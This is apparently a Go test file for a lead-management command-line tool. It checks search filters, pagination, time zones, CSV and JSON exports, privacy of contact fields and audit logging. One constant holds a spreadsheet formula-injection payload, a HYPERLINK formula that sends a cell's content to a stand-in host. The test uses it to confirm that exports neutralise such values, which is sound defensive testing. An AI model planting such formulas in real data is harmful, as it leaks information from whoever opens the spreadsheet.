package main_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"foyer/internal/lead"
	"foyer/internal/operator/query"
	"foyer/internal/store/storetest"
)

// hostile is what a person may write who wants the operator's spreadsheet to do something.
const hostile = `=HYPERLINK("https://example.com/?leak="&A1)`

// TestFindLeads searches leads as an operator would, page by page and into files.
func TestFindLeads(t *testing.T) {
	storetest.Parallel(t)
	help, _, _ := run(t, "leads", "list", "--help")
	for _, w := range query.FilterWords {
		if !strings.Contains(help, "--"+w.Name+"="+w.Value) {
			t.Errorf("there is no flag for %s", w.Name)
		}
	}
	onEachEngine(t, func(t *testing.T, o cli) {
		o.run("db", "migrate")
		o.run("keys", "init")
		s := storetest.Open(t, o.database)
		for i := range 130 {
			l := storetest.Lead(fmt.Sprintf("lead_%03d", i))
			l.CreatedAt = storetest.Noon.Add(time.Duration(i) * time.Hour)
			l.Request.Contact = lead.Contact{Name: hostile, Phone: fmt.Sprintf("+130555501%02d", i%100), Email: fmt.Sprintf("pat%d@example.com", i), Notes: "Two cats,\nand \"Rex\"."}
			if i%10 == 0 {
				l.Request.ZIP = "30303"
			}
			storetest.Save(t, s, l)
		}
		ids := func(args ...string) (list []string, rest string) {
			t.Helper()
			out, rest, code := run(t, append(append([]string{"leads", "list"}, args...), "--database", o.database)...)
			for line := range strings.Lines(out) {
				if id, _, _ := strings.Cut(line, " "); strings.HasPrefix(id, "lead_") {
					list = append(list, id)
				} else if !strings.HasPrefix(line, "LEAD") { // another program may read the list
					t.Errorf("%v: %q is among the leads", args, line)
				}
			}
			if code != 0 {
				t.Errorf("%v: exit code %d", args, code)
			}
			return list, rest
		}
		for _, filter := range [][]string{{"--phone", "(305) 555-0107"}, {"--phone", "3055550107", "--status", "collected"}, {"--email", "PAT7@example.com,pat107@example.com"}} {
			list, rest := ids(filter...)
			if want := "lead_107 lead_007"; strings.Join(list, " ") != want || rest != "" {
				t.Errorf("%v: %v, %q; want %s", filter, list, rest, want)
			}
		}
		var all []string
		for rest := "--cursor 1000"; rest != ""; {
			_, cursor, _ := strings.Cut(rest, "--cursor ")
			cursor, _, _ = strings.Cut(cursor, ",")
			var page []string
			page, rest = ids("--zip", "33139,303*", "--limit", "40", "--cursor", cursor)
			all = append(all, page...)
		}
		if len(all) != 130 || all[0] != "lead_129" || all[129] != "lead_000" {
			t.Errorf("page by page: %d leads, %v", len(all), all)
		}
		if list, rest := ids("--zip", "30303", "--limit", "5"); len(list) != 5 || !strings.HasPrefix(rest, "There are more. Go on with --cursor ") {
			t.Errorf("the first page: %v, %q", list, rest)
		}
		if list, rest := ids("--received", "2026-11-05", "--time-zone", "America/New_York"); len(list) != 17 || rest != "" { // 07:00 to 23:00
			t.Errorf("a day in New York: %v, %q", list, rest)
		}
		if out := o.run("leads", "list", "--zip", "99999"); out != "No lead was found.\n" {
			t.Errorf("nothing matches: %s", out)
		}
		checkExport(t, o)
	})
}

// checkExport wants personal details only where they are asked for, and no cell that a spreadsheet would run.
func checkExport(t *testing.T, o cli) {
	t.Helper()
	plain := o.run("leads", "list", "--all", "--csv") + o.run("leads", "list", "--all", "--json") + o.run("leads", "list", "--all")
	for _, personal := range []string{"HYPERLINK", "555", "pat7", "cats"} {
		if strings.Contains(plain, personal) {
			t.Errorf("without --contact, the list holds %q", personal)
		}
	}
	file, err := csv.NewReader(strings.NewReader(o.run("leads", "list", "--all", "--csv", "--contact", "--zip", "30303"))).ReadAll()
	if err != nil || len(file) != 14 {
		t.Fatalf("%d lines, %v", len(file), err)
	}
	row := make(map[string]string)
	for i, name := range file[0] {
		row[name] = file[1][i]
	}
	for name, want := range map[string]string{
		"lead_id": "lead_120", "created_at": "2026-11-10T12:00:00Z", "zip_code": "30303", "status": "collected", "buyer_id": "", "price_cents": "", "sold_at": "",
		"customer_name": "'" + hostile, "customer_phone": "+13055550120", "customer_email": "pat120@example.com", "notes": "Two cats,\nand \"Rex\".",
	} {
		if row[name] != want {
			t.Errorf("%s: got %q, want %q", name, row[name], want)
		}
	}
	if entry := o.run("audit", "--limit", "1"); !strings.Contains(entry, "lead.export") || !strings.Contains(entry, `{"filters":["zip"]}`) {
		t.Errorf("the audit trail does not tell of the export: %s", entry)
	}
	for _, c := range [][2]string{
		{"--contact", "--contact: add --csv or --json"},
		{"--csv --json", "cannot be used together"},
		{"--cursor x", "--cursor: got something that is no cursor"},
		{"--zip 3", "--zip: not a ZIP code"},
		{"--name pat", "--name: names are searched one by one"},
		{"--phone=", "--phone: it is empty"},
		{"--phone= --csv --contact --all", "--phone: it is empty"},
		{"--received never", "--received: \"never\" is no date"},
	} {
		if line := o.runFailing(2, append([]string{"leads", "list"}, strings.Fields(c[0])...)...); !strings.Contains(line, c[1]) {
			t.Errorf("%s: %q, want %q", c[0], line, c[1])
		}
	}
	if line := o.runFailing(1, "leads", "list", "--buyer", "nobody"); !strings.Contains(line, `buyer: there is no buyer with the name or id "nobody"`) {
		t.Errorf("an unknown buyer: %q", line)
	}
}
